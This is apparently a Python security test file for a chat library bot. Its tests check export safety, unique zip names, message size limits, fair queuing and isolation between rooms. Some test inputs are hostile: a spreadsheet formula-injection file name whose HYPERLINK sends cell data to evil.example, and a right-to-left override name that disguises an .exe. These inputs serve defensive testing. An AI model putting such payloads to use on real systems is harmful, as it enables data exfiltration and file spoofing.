"""What members and servers try who want to see or do more than they may."""

import asyncio
import io
import json
import warnings
import zipfile
from dataclasses import replace
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from PIL import Image

from bots.library import words
from bots.library.bot import BOT
from bots.library.commands.packing import LIST, Packed, pack
from kit.answering import Answerer
from kit.classification import Classification
from kit.events import MessageHeard
from kit.ids import Language, RoomId
from kit.part import Command, Part
from kit.perform import perform
from kit.web.measures import Measures
from tests.bots.library.house import ME, House, person
from tests.bots.library.test_exporting import exported

ADA, BO, CY, EVE = map(person, ("ada", "bo", "cy", "eve"))
ROPES = "A ledger of ropes and anchors, kept by the harbour office for the winter season."


async def test_no_cell_of_an_exported_list_is_a_formula(quick: House) -> None:
    room = quick.room("Papers", ADA, BO)
    quick.upload(room, ADA, '\x01=HYPERLINK("https:evil.example?"&B3,"report").txt', ROPES)
    await quick.settle()
    (file,) = await exported(quick, room, BO)
    with zipfile.ZipFile(io.BytesIO(await quick.matrix.download(file, 10_000_000))) as parts:
        sheet = load_workbook(io.BytesIO(parts.read(LIST))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [(c.coordinate, c.value) for c in cells if c.data_type == "f"] == []


def test_files_of_a_zip_never_have_one_name() -> None:
    files = [
        Packed(name=n, cells=("",) * 11, data=n.encode() + bytes([i]))
        for i, n in enumerate(("a.pdf", "a (3).pdf", "a.pdf"))
    ]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        names = zipfile.ZipFile(io.BytesIO(pack(files, Language.ENGLISH))).namelist()
    assert len(names) == len(set(names)), names


def test_names_in_a_zip_cannot_turn_around() -> None:
    names = zipfile.ZipFile(
        io.BytesIO(pack([Packed(name="annual\u202efdp.exe", cells=("",) * 11, data=b"x")], Language.ENGLISH))
    ).namelist()
    assert not any("\u202e" in n for n in names), names


async def test_a_title_in_news_cannot_turn_the_line_around(quick: House) -> None:
    room = quick.room("Papers", ADA, BO)
    await quick.command(room, BO, "follow", "ropes")
    quick.upload(room, ADA, "\u202eropes\u2066.txt", ROPES)
    before = {m.event for m in quick.said()}
    await quick.settle()
    await quick.library.conversing.news.look()
    (news,) = [m for m in quick.said() if m.event not in before]
    assert "\u202e" not in news.body, repr(news.body)


def picture(colour: str = "teal") -> bytes:
    held = io.BytesIO()
    Image.new("RGB", (90, 60), colour).save(held, "PNG")
    return held.getvalue()


async def test_captions_do_not_make_an_answer_too_large(quick: House) -> None:
    room = quick.room("Papers", ADA, BO)
    for n in range(10):
        quick.server.upload(room, ADA, f"{n}.png", picture(), kind="m.image", caption="议会" * 1000)
    await quick.settle()
    said = await quick.command(room, BO, "media")
    size = max(
        len(json.dumps({"body": m.body, "formatted_body": m.html}, ensure_ascii=False).encode()) for m in said
    )
    assert size * 4 / 3 < 65_000, size


async def test_a_followed_question_does_not_make_notices_too_large(quick: House) -> None:
    room = quick.room("Papers", ADA, BO)
    await quick.command(room, BO, "follow", "ropes " + "x " * 20_000)
    (one,) = await quick.library.conversing.news.follows.of(BO)
    assert len(str(one.query["text"])) <= 4_000, len(str(one.query["text"]))


async def test_one_person_does_not_take_all_places_for_exports(quick: House) -> None:
    room = quick.room("Papers", ADA, BO, EVE)
    quick.upload(room, ADA, "a.txt", ROPES)
    await quick.settle()
    for _ in range(20):
        await quick.command(room, EVE, "export")
    await quick.command(room, BO, "export")
    waiting = quick.library.conversing.exporting.waiting
    askers = []
    while not waiting.empty():
        askers.append(waiting.get_nowait().heard.sender)
    assert askers == [EVE, BO]


async def test_what_packs_files_and_tells_of_news_runs(quick: House) -> None:
    talks = quick.library.conversing
    names = {work.__self__.__class__.__name__ for work in talks.works}  # type: ignore[attr-defined]
    assert {"Exporting", "News"} <= names, names


async def test_room_here_brings_nothing_of_other_rooms(quick: House) -> None:
    hall, other = quick.room("Hall", ADA, BO, CY), quick.room("Other", ADA, BO)
    quick.server.upload(hall, ADA, "hall.png", picture(), kind="m.image", caption="hall")
    quick.clock.advance(timedelta(minutes=1))
    quick.server.upload(other, ADA, "other.png", picture(), kind="m.image", caption="other")
    await quick.settle()
    said = await quick.command(hall, BO, "media", "room:here")
    assert not any("other" in m.body for m in said), [m.body for m in said]


async def test_pictures_are_judged_again_when_they_are_there(quick: House) -> None:
    room = quick.room("Papers", ADA, BO, history="joined")
    quick.server.upload(room, ADA, "secret.png", picture(), kind="m.image", caption="secret")
    await quick.settle()
    chat = quick.server.room(ME, BO, encrypted=True)
    gallery = quick.library.conversing.gallery
    inner = gallery.reader

    class Slow:
        async def thumbnail(self, *given: object) -> bytes | None:
            quick.server.leave(room, BO, by=ADA)
            return await inner.thumbnail(*given)  # type: ignore[arg-type]

    slow = replace(gallery, reader=Slow())  # type: ignore[arg-type]
    heard = await quick.matrix.event(chat, quick.server.say(chat, BO, "!media"))
    await slow.media(quick.asked(heard, ""))  # type: ignore[arg-type]
    shown = [p.name for pictures in quick.matrix.galleries.values() for p in pictures]
    assert shown == []


async def test_a_long_number_of_days_is_refused_kindly(quick: House) -> None:
    room = quick.room("Papers", ADA, BO)
    said = await quick.command(room, BO, "new", "9" * 5000)
    assert said


async def test_who_joins_a_room_later_reads_nothing_of_rooms_that_they_are_not_in(quick: House) -> None:
    hall = quick.room("Hall", ADA, BO, history="shared")
    closed = quick.room("Closed", ADA, BO, history="shared")
    quick.upload(closed, ADA, "secret.txt", ROPES)
    await quick.settle()
    said = await quick.ask(hall, BO, "ropes")
    assert not any("anchors" in message.body for message in said if message.room == hall)


async def test_following_does_not_count_the_follows_of_others(quick: House) -> None:
    one, two = quick.room("One", ADA), quick.room("Two", BO)
    await quick.command(one, ADA, "follow", "ropes")
    await quick.command(one, ADA, "follow", "sails")
    (said,) = await quick.command(two, BO, "follow", "ropes")
    assert "unfollow 1" in said.body, said.body


async def test_a_slow_asker_keeps_no_other_from_their_answer(quick: House) -> None:
    hall, closed = quick.room("Hall", ADA, BO, CY), quick.room("Closed", BO, CY)
    quick.upload(closed, BO, "secret.txt", ROPES)
    await quick.settle()
    direct = quick.matrix.direct_chat

    async def slow(user):  # type: ignore[no-untyped-def]
        if user == BO:
            await asyncio.Event().wait()
        return await direct(user)

    quick.matrix.direct_chat = slow  # type: ignore[method-assign]
    working = asyncio.create_task(quick.library.conversing.judging.tell_askers())
    for asker in (BO, CY):
        run = next(c.run for c in quick.library.conversing.commands if c.name == "new")
        heard = await quick.matrix.event(hall, quick.server.say(hall, asker, "!new"))
        await run(quick.asked(heard, ""))  # type: ignore[arg-type]
    await asyncio.sleep(0.5)
    got = quick.direct_chat_of(CY)
    working.cancel()
    assert got is not None


async def test_choices_of_an_answer_go_with_the_files_that_they_count(quick: House) -> None:
    room = quick.room("Papers", ADA, BO)
    for n in range(5):
        text = f"Ropes, ropes and more ropes are kept in the house by the quay. {n}"
        quick.upload(room, ADA, f"{n}.txt", text)
    foreign = "Le registre du port nomme les cordages, ropes en anglais, que garde la capitainerie. " * 3
    last = quick.upload(room, ADA, "z.txt", foreign)
    await quick.settle()
    await quick.ask(room, BO, "ropes")
    assert any("French" in message.body for message in quick.said())
    await perform(await quick.library.erasing.erase(room, last), quick.matrix)
    assert not any("French" in message.body for message in quick.said())


async def asked_by_the_server(house: House, room: RoomId, text: str) -> list[str]:
    """Let the server make up a message of Bo's; return all that it can see the library do because of it."""
    before = {event for each in house.server.rooms.values() for event in each.timeline}
    conversing, finding = house.library.conversing, house.library.finding
    search = Command(
        name="search", usage="", about=words.SEARCH, run=finding.search, guarded=True, usual=True
    )
    part = Part(commands=(search, *conversing.commands), sentence=finding.sentence, guarded=True)
    answerer = Answerer(
        matrix=house.matrix, part=part, bot=BOT, people=house.people, rooms=house.rooms, measures=Measures()
    )
    event = house.server.say(room, BO, text, encrypted=False, verified=False)
    heard = await house.matrix.event(room, event)
    assert isinstance(heard, MessageHeard)
    question = await answerer.question(heard)
    assert question is not None
    await answerer.answer(question)
    exporting = conversing.exporting
    while not exporting.waiting.empty():
        await exporting.one(exporting.waiting.get_nowait())
    await house.settle()
    await conversing.news.look()
    return [
        f"{each.id} {getattr(said, 'emoji', '')} {len(getattr(said, 'body', ''))}"
        for each in house.server.rooms.values()
        for name, said in each.timeline.items()
        if name not in before and said.sender == ME
    ]


@pytest.mark.parametrize("text", ["!library {}", "!library export {}", "!library like {}", "@library {}"])
@pytest.mark.parametrize("where", ["closed", "hall", "chat"])
async def test_a_question_that_the_server_made_up_tells_it_nothing(
    quick: House, where: str, text: str
) -> None:
    closed = quick.room("Cell", ADA, BO, classification=Classification.CONFIDENTIAL)
    hall = quick.room("Hall", ADA, BO, encrypted=False)
    chat = quick.server.room(ME, BO, encrypted=False)
    quick.upload(closed, ADA, "a.txt", "The witness will travel to Geneva under the name of Orlov.")
    await quick.settle()
    room = {"closed": closed, "hall": hall, "chat": chat}[where]
    right = await asked_by_the_server(quick, room, text.format('"under the name of Orlov"'))
    wrong = await asked_by_the_server(quick, room, text.format('"under the name of Pulov"'))
    assert [seen.split()[1:] for seen in right] == [seen.split()[1:] for seen in wrong]
    assert right
